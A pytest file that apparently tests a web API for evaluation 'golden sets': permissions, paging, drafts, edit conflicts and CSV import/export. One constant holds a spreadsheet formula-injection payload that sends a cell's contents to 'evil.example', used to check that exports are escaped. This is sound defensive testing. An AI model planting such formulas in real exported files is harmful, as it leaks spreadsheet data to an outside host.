"""Golden sets over real HTTP: who sees them, what a case needs, CSV both ways, answers and drafts."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.api.people import Town, pages, town
from tests.api.served import LEAVE

QUOTE = "Employees have 12 days of annual leave."
EVIDENCE = [{"document": "handbook.md", "quote": QUOTE}]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Town]:
    with town(tmp_path_factory.mktemp("golden")) as found:
        yield found


@pytest.fixture
def own(people: Town, request: pytest.FixtureRequest) -> Iterator[str]:
    """The address of a new golden set about the handbook, made by ``will``."""
    made = people["will"].post(
        "/api/golden", json={"collection": "handbook", "name": request.node.name.replace("~", "-")[:60]}
    )
    assert made.status_code == 201, made.text
    yield made.headers["location"]
    people["mia"].delete(made.headers["location"])


def _add(client: httpx.Client, own: str, **case: Any) -> dict[str, Any]:  # noqa: ANN401 - JSON
    made = client.post(f"{own}/cases", json={"question": LEAVE, "evidence": EVIDENCE, **case})
    assert made.status_code == 201, made.text
    found: dict[str, Any] = made.json()
    return found


def test_set_is_made_renamed_listed_and_deleted_by_who_may(people: Town, own: str) -> None:
    will, mia = people["will"], people["mia"]
    assert will.patch(own, json={"name": "leave and pay"}).json()["name"] == "leave and pay"
    taken = people["sal"].post("/api/golden", json={"collection": "salaries", "name": "leave and pay"})
    assert (taken.status_code, taken.json()["code"]) == (409, "conflict")
    names = [each["name"] for each in will.get("/api/golden").json()["data"]]
    assert "leave and pay" in names
    assert people["sal"].get("/api/golden").json()["data"] == []
    assert people["rosa"].get("/api/golden").json()["data"] == []
    assert will.delete(own).status_code == 403
    assert mia.delete(own).json()["name"] == "leave and pay"
    assert mia.get(own).status_code == 404


def test_sets_come_page_by_page(people: Town) -> None:
    client = people["will"]
    made = [
        client.post("/api/golden", json={"collection": "handbook", "name": f"page {n}"}).headers["location"]
        for n in range(3)
    ]
    first = client.get("/api/golden", params={"collection": "handbook", "limit": 2}).json()
    rest = client.get("/api/golden", params={"collection": "handbook", "cursor": first["next_cursor"]}).json()
    names = [each["name"] for each in (*first["data"], *rest["data"])]
    assert (len(first["data"]), names) == (2, sorted(names))
    assert rest["next_cursor"] is None
    assert client.get("/api/golden", params={"cursor": "nonsense"}).status_code == 422
    for each in made:
        people["mia"].delete(each)


def test_case_whose_words_do_not_stand_is_a_draft_until_it_is_labelled(people: Town, own: str) -> None:
    client = people["will"]
    case = _add(client, own, evidence=[{"document": "handbook.md", "quote": "99 days of leave"}])
    assert case["state"] == "draft"
    assert "do not stand" in case["note"]
    refused = client.post(f"{own}/accept", json={"cases": [case["id"]]})
    assert (refused.status_code, refused.json()["code"]) == (422, "bad_request")
    at = f"{own}/cases/{case['id']}"
    still = client.patch(at, json={"evidence": [{"document": "nothing.md", "quote": ""}]})
    assert still.status_code == 422
    done = client.patch(at, json={"evidence": EVIDENCE})
    assert (done.json()["state"], done.json()["evidence"][0]["quote"]) == ("accepted", QUOTE)
    assert client.get(own).json()["accepted"] == 1


def test_case_that_has_changed_meanwhile_is_not_overwritten(people: Town, own: str) -> None:
    client = people["will"]
    at = f"{own}/cases/{_add(client, own)['id']}"
    tag = client.get(at).headers["etag"]
    assert client.patch(at, json={"answers": ["12 days"]}, headers={"If-Match": tag}).status_code == 200
    outdated = client.patch(at, json={"answers": ["13 days"]}, headers={"If-Match": tag})
    assert (outdated.status_code, client.get(at).json()["answers"]) == (412, ["12 days"])
    assert client.delete(at, headers={"If-Match": tag}).status_code == 412
    assert client.delete(at).json()["answers"] == ["12 days"]
    assert client.get(at).status_code == 404


def test_cases_come_page_by_page_and_by_state(people: Town, own: str) -> None:
    client = people["will"]
    asked = [f"{LEAVE} ({n})" for n in range(5)]
    for n, question in enumerate(asked):
        _add(client, own, question=question, evidence=EVIDENCE if n % 2 else [])
    listed = pages(client, f"{own}/cases", limit=2)
    assert [[each["question"] for each in page] for page in listed] == [asked[:2], asked[2:4], asked[4:]]
    drafts = pages(client, f"{own}/cases", state="draft", limit=2)
    assert [[each["question"] for each in page] for page in drafts] == [asked[:4:2], asked[4:]]
    for empty in ("", "  \n"):
        assert client.post(f"{own}/cases", json={"question": empty}).status_code == 422


def test_csv_goes_out_without_a_formula_and_comes_back_as_it_was(people: Town, own: str) -> None:
    client = people["will"]
    _add(client, own, question=FORMULA, answers=["@SUM(1)", "-1"], note="+1")
    out = client.get(f"{own}/export")
    assert out.content.startswith(b"\xef\xbb\xbfid,question,")
    assert out.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
    assert out.headers["content-type"] == "text/csv; charset=utf-8"
    cells = [cell for row in csv.reader(io.StringIO(out.content.decode("utf-8-sig"))) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    before = client.get(f"{own}/cases").json()["data"]
    done = client.post(f"{own}/import", content=out.content, headers={"content-type": "text/csv"})
    assert done.json() == {"accepted": 1, "drafts": 0, "data": []}
    after = client.get(f"{own}/cases").json()["data"]
    assert [{**each, "source": ""} for each in after] == [{**each, "source": ""} for each in before]


def test_csv_that_is_wrong_names_every_line_and_adds_nothing(people: Town, own: str) -> None:
    client = people["will"]
    header, long = "id,question,answerable,state", f",{'x' * 2001},,"
    rows = [header, "a,Fine?,yes,", ",Q2?,perhaps,", ",Q3?,yes,gone", long]
    answer = client.post(f"{own}/import", params={"name": "q.csv"}, content="\n".join(rows).encode())
    found = answer.json()
    assert (answer.status_code, found["code"]) == (422, "set_unreadable")
    assert [each["loc"] for each in found["errors"]] == ["line 3", "line 4", "line 5"]
    assert "q.csv:3" in found["detail"]
    assert client.get(f"{own}/cases").json()["data"] == []
    assert client.post(f"{own}/import", content=b"").status_code == 422
    assert client.post(f"{own}/import", content=b"\xff\xfe\x00").status_code == 422
    assert client.post(f"{own}/import", content=b"x" * 2_000_001).status_code == 413


def test_answer_becomes_a_case_only_for_who_was_given_it(people: Town, own: str) -> None:
    will = people["will"]
    asked = will.post("/api/ask", json={"question": LEAVE, "collection": "handbook"})
    assert asked.status_code == 200, asked.text
    answer_id = will.get("/api/answers").json()["data"][0]["id"]
    foreign = people["mia"].post(f"{own}/answers", json={"answer_id": answer_id, "right": True})
    nothing = people["mia"].post(f"{own}/answers", json={"answer_id": "nothing", "right": True})
    assert foreign.status_code == nothing.status_code == 404
    done = will.post(f"{own}/answers", json={"answer_id": answer_id, "right": True})
    assert done.json()["accepted"] == 1, done.text
    (case,) = will.get(f"{own}/cases").json()["data"]
    assert (case["question"], case["source"], case["evidence"][0]["document"]) == (
        LEAVE,
        "answer",
        "handbook.md",
    )
    wrong = will.post(f"{own}/answers", json={"answer_id": answer_id, "right": False}).json()
    assert (wrong["accepted"], wrong["drafts"]) == (0, 1)


def test_drafts_are_made_of_documents_and_wait_for_a_person(people: Town, own: str) -> None:
    client = people["will"]
    done = client.post(f"{own}/drafts", json={"count": 2})
    assert done.status_code == 200, done.text
    drafts = done.json()["data"]
    assert drafts
    assert {each["state"] for each in drafts} == {"draft"}
    assert client.get(own).json()["drafts"] == len(drafts)
    accepted = client.post(f"{own}/accept", json={"cases": [each["id"] for each in drafts]})
    assert (accepted.json()["accepted"], accepted.json()["drafts"]) == (len(drafts), 0)


@pytest.mark.parametrize("name", ["sal", "rosa"])
def test_set_of_what_somebody_may_not_write_to_is_not_there(people: Town, own: str, name: str) -> None:
    case = _add(people["will"], own)["id"]
    client, calls = people[name], 0
    for method, path, body in (
        ("GET", "", None),
        ("PATCH", "", {"name": "mine"}),
        ("DELETE", "", None),
        ("GET", "/cases", None),
        ("POST", "/cases", {"question": "Mine?"}),
        ("GET", f"/cases/{case}", None),
        ("PATCH", f"/cases/{case}", {"question": "Mine?"}),
        ("DELETE", f"/cases/{case}", None),
        ("POST", "/accept", {"cases": [case]}),
        ("POST", "/answers", {"answer_id": "x", "right": True}),
        ("POST", "/drafts", {"count": 1}),
        ("GET", "/export", None),
        ("POST", "/import", {"question": "Mine?"}),
    ):
        answer = client.request(method, f"{own}{path}", json=body)
        nothing = client.request(method, f"/api/golden/{'0' * 32}{path}", json=body)
        assert answer.status_code == nothing.status_code == 404, (method, path, answer.text)
        assert answer.json()["detail"].replace(own.rsplit("/", 1)[-1], "0" * 32) == nothing.json()["detail"]
        calls += 1
    assert calls == 13
    assert people["will"].get(own).json()["accepted"] == 1
    listed = client.get("/api/golden", params={"collection": "handbook"})
    made = client.post("/api/golden", json={"collection": "handbook", "name": f"of {name}"})
    assert listed.status_code == made.status_code == (404 if name == "sal" else 403)
